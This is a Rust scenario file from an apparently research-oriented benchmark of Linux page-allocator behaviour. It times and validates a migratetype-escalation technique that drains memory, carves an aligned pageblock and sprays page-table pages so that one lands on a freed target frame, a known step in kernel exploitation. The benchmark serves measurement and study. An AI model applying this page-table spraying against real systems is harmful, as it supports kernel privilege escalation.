use std::fs::File;
use std::io::Write;
use std::os::fd::{AsRawFd, RawFd};
use std::ptr::null_mut;

use buddybench_core::bench::Scenario;
use buddybench_core::primitives::AllocPrimitives;
use buddybench_core::probe::{PAGEBLOCK_ORDER, Probe};
use buddybench_core::util::{
    PAGE_SIZE, PAGEBLOCK_SIZE, avail_phys_bytes, lock_pages, map_fixed_shared_page, map_populated,
    map_shared_file, remap_fixed, shm_tmpfile, unlock_pages, unmap,
};
use log::debug;

use crate::scenarios::ScenarioError;

/// Offset of the target page inside the carved pageblock.
const TARGET_OFFSET: usize = 0x10000;
/// Fixed destination the carved pageblock is remapped to.
const REMAP_ADDRESS: usize = 0x2_0000_0000;
/// Base of the page-table spray area.
const SPRAY_START: usize = 0x1_0000_0000;
/// Spacing between sprayed pages; one page-table page backs each slot.
const SPRAY_STRIDE: usize = PAGEBLOCK_SIZE;
/// Number of sprayed mappings, just under the host's per-process VMA cap.
const NR_VMA_LIMIT: usize = 63000;
/// Free memory left untouched when draining, so the host stays alive.
const ZONE_RESERVE: usize = 0xc000_0000;
/// Physical frame bits of a page-table entry.
const PTE_FRAME_MASK: u64 = 0x0000_ffff_ffff_f000;

/// Times the escalation of a pageblock's migration type and checks that a
/// sprayed page-table page was placed inside the escalated block.
///
/// Per round: setup carves a pageblock-aligned 2 MiB region out of a
/// drained address space (retrying until the physical alignment holds),
/// pins the guard pages around the target and prepares a populated spray
/// file; the timed action escalates the pageblock, tears the spray down,
/// frees the target page and remaps one spray-file page; validate reads
/// the target frame through the probe and passes iff it now holds a
/// page-table entry pointing at the spray file's frame.
pub struct MigratetypeEscalation<P: AllocPrimitives> {
    probe: Probe,
    primitives: P,
    pageblock: *mut u8,
    target: *mut u8,
    target_phys: u64,
    spray_file: Option<File>,
    file_ptr: *mut u8,
    file_phys: u64,
}

impl<P: AllocPrimitives> MigratetypeEscalation<P> {
    /// Creates the scenario around an open probe and a primitives
    /// provider.
    pub fn new(probe: Probe, primitives: P) -> Self {
        MigratetypeEscalation {
            probe,
            primitives,
            pageblock: null_mut(),
            target: null_mut(),
            target_phys: 0,
            spray_file: None,
            file_ptr: null_mut(),
            file_phys: 0,
        }
    }

    /// Tries to obtain a 2 MiB region whose physical range is exactly one
    /// pageblock.
    ///
    /// Drains free memory down to the reserve, locates the last drained
    /// page, and remaps the pageblock-aligned region below it to a fixed
    /// address. Returns `None` if the carved region turned out not to be
    /// physically aligned; the caller retries.
    fn carve_pageblock(&mut self) -> Result<Option<*mut u8>, ScenarioError<P::Error>> {
        let drain_len = avail_phys_bytes()?.saturating_sub(ZONE_RESERVE);
        let drain = map_populated(drain_len)?;
        let drain_end = drain.wrapping_add(drain_len - PAGE_SIZE);
        let drain_end_phys = self.probe.translate_ptr(drain_end)?;

        let aligned =
            drain_end.wrapping_sub(drain_end_phys as usize % PAGEBLOCK_SIZE + PAGEBLOCK_SIZE);
        let block = remap_fixed(aligned, PAGEBLOCK_SIZE, REMAP_ADDRESS as *mut u8)?;
        unsafe { unmap(drain, drain_len)? };

        let start_phys = self.probe.translate_ptr(block)?;
        let end_phys = self
            .probe
            .translate_ptr(block.wrapping_add(PAGEBLOCK_SIZE - PAGE_SIZE))?;
        if start_phys as usize % PAGEBLOCK_SIZE != 0
            || end_phys as usize % PAGEBLOCK_SIZE != PAGEBLOCK_SIZE - PAGE_SIZE
        {
            unsafe { unmap(block, PAGEBLOCK_SIZE)? };
            return Ok(None);
        }
        Ok(Some(block))
    }

    fn open_spray_file(&mut self) -> Result<(), ScenarioError<P::Error>> {
        let mut file = shm_tmpfile()?;
        file.write_all(b"ffffffff")?;
        let ptr = map_shared_file(file.as_raw_fd(), PAGE_SIZE)?;
        lock_pages(ptr, PAGE_SIZE)?;
        self.file_phys = self.probe.translate_ptr(ptr)?;
        self.file_ptr = ptr;
        self.spray_file = Some(file);
        Ok(())
    }

    fn close_spray_file(&mut self) -> Result<(), ScenarioError<P::Error>> {
        if let Some(file) = self.spray_file.take() {
            unlock_pages(self.file_ptr, PAGE_SIZE)?;
            unsafe { unmap(self.file_ptr, PAGE_SIZE)? };
            drop(file);
        }
        Ok(())
    }
}

/// Fills the spray area with shared mappings of the spray file, one
/// page-table page per slot.
///
/// Invoked from inside the escalation primitive; a mapping failure here
/// means the address space is broken mid-primitive, so it aborts.
fn spray_tables(fd: RawFd) {
    for i in 0..NR_VMA_LIMIT {
        let addr = (SPRAY_START + SPRAY_STRIDE * i) as *mut u8;
        if let Err(e) = map_fixed_shared_page(addr, fd) {
            panic!("failed to spray page tables at slot {i}: {e}");
        }
    }
}

fn unspray_tables() -> std::io::Result<()> {
    // Slot 0 stays mapped; validate releases it after the read-back.
    for i in 1..NR_VMA_LIMIT {
        let addr = (SPRAY_START + SPRAY_STRIDE * i) as *mut u8;
        unsafe { unmap(addr, PAGE_SIZE)? };
    }
    Ok(())
}

impl<P: AllocPrimitives> Scenario for MigratetypeEscalation<P> {
    type Error = ScenarioError<P::Error>;

    fn setup(&mut self) -> Result<(), Self::Error> {
        self.pageblock = loop {
            if let Some(block) = self.carve_pageblock()? {
                break block;
            }
            debug!("carved region not pageblock aligned, retrying");
        };
        self.target = self.pageblock.wrapping_add(TARGET_OFFSET);
        lock_pages(self.target.wrapping_sub(PAGE_SIZE), 3 * PAGE_SIZE)?;
        self.target_phys = self.probe.translate_ptr(self.target)?;
        self.open_spray_file()?;
        Ok(())
    }

    fn action(&mut self) -> Result<(), Self::Error> {
        let bait = self.pageblock.wrapping_add(PAGEBLOCK_SIZE / 2);
        let fd = self
            .spray_file
            .as_ref()
            .expect("setup opens the spray file")
            .as_raw_fd();

        let mut spray = || spray_tables(fd);
        self.primitives
            .escalate_migratetype(bait, PAGEBLOCK_ORDER, &mut spray)
            .map_err(ScenarioError::Primitive)?;
        unspray_tables()?;

        unlock_pages(self.target, PAGE_SIZE)?;
        self.primitives
            .merge_block(self.target, 0)
            .map_err(ScenarioError::Primitive)?;
        map_fixed_shared_page((SPRAY_START + SPRAY_STRIDE) as *mut u8, fd)?;
        Ok(())
    }

    fn validate(&mut self) -> Result<bool, Self::Error> {
        let value = self.probe.read_phys(self.target_phys)?;
        debug!(
            "target frame {:#x}, file frame {:#x}, target word {:#x}",
            self.target_phys, self.file_phys, value
        );

        unsafe {
            unmap(SPRAY_START as *mut u8, PAGE_SIZE)?;
            unmap((SPRAY_START + SPRAY_STRIDE) as *mut u8, PAGE_SIZE)?;
        }
        self.close_spray_file()?;

        // The guard range may contain holes once the primitive consumed
        // the target page; failing to unlock those is expected.
        if let Err(e) = unlock_pages(self.target.wrapping_sub(PAGE_SIZE), 3 * PAGE_SIZE) {
            debug!("guard unlock left to the teardown: {e}");
        }
        unsafe { unmap(self.pageblock, PAGEBLOCK_SIZE)? };

        Ok(value & PTE_FRAME_MASK == self.file_phys)
    }
}
